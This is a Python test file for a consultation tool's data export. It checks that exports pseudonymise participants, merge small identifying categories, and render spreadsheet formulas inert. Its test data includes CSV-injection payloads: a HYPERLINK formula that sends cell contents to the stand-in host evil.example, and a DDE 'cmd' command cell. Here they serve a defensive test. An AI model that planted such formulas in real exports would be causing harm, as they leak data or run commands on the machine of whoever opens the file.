"""The data out: pseudonyms instead of names, small categories hidden, no formula left armed."""

from __future__ import annotations

import csv
import io

import pytest

from consultation import export, findings, observations
from models import Channel
from tests.factories import make_consultation, make_coordinator, make_participant

TG = Channel.TELEGRAM


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ('=HYPERLINK("http://evil.example/?"&A1,"Cliquez")', "'=HYPERLINK"),
        ("+33 6 12 34 56 78", "'+33 6"),
        ("-2 points pour les SCOP", "'-2 points"),
        ("@SUM(A1:A9)", "'@SUM"),
        ("\tcaché", "'\tcaché"),
        ("\rcmd|' /C calc'!A0", "'\rcmd"),
        ("Les SCOP = 12 % des emplois", "Les SCOP = 12"),
    ],
)
def test_a_cell_a_spreadsheet_would_run_is_written_as_text(cell, written):
    text = export.csv_text([{"text": cell, "value": -3}], ["text", "value"])
    row = list(csv.reader(io.StringIO(text)))[1]
    assert row[0].startswith(written)
    assert row[0].lstrip("'") == cell
    assert row[1] == "-3"  # numbers are numbers, not formulas


async def test_the_export_names_nobody_and_links_a_person_s_answers_by_pseudonym(db, clock):
    async with db.session() as session:
        consultation = await make_consultation(session)
        coordinator = await make_coordinator(session, consultation)
        people = [
            await make_participant(
                session, consultation, name=f"Membre {n}", category="association"
            )
            for n in range(5)
        ]
        for n in range(4):
            await make_participant(session, consultation, name=f"Habitant {n}", category="citizen")
        lone = await make_participant(
            session, consultation, name="Jean Lefèvre", category="elected"
        )
        await observations.submit_observation(
            session=session, participant=people[0], text="=1+1 les SCOP sont isolées", channel=TG
        )
        await observations.submit_observation(
            session=session, participant=lone, text="Le foncier coûte trop cher.", channel=TG
        )
        await findings.draft_finding(
            session=session,
            consultation_id=consultation.id,
            by=coordinator,
            text="Les SCOP sont isolées.",
            observation_ids=[1],
        )
        first = await export.export_tables(
            session=session, consultation_id=consultation.id, key=b"k" * 32
        )
        second = await export.export_tables(session=session, consultation_id=consultation.id)
    everything = export.json_text([row for rows in first.values() for row in rows])
    for secret in ("Membre", "Habitant", "Jean", "Lefèvre", "example.org"):
        assert secret not in everything
    rows = first["observations"]
    assert rows[0]["participant"].startswith("P") and len(rows[0]["participant"]) == 11
    assert rows[0]["category"] == "association"
    # The only elected official would be recognised by their category: it reads "other" (with
    # the four residents, so that "other" is five people too).
    assert rows[1]["category"] == "other"
    assert rows[0]["findings"] == "F1"
    assert first["findings"][0]["observations"] == "1"
    # A new export draws new pseudonyms: two files cannot be joined to follow someone.
    assert second["observations"][0]["participant"] != rows[0]["participant"]
    written = export.csv_text(rows, export.COLUMNS["observations"])
    assert "'=1+1 les SCOP" in written
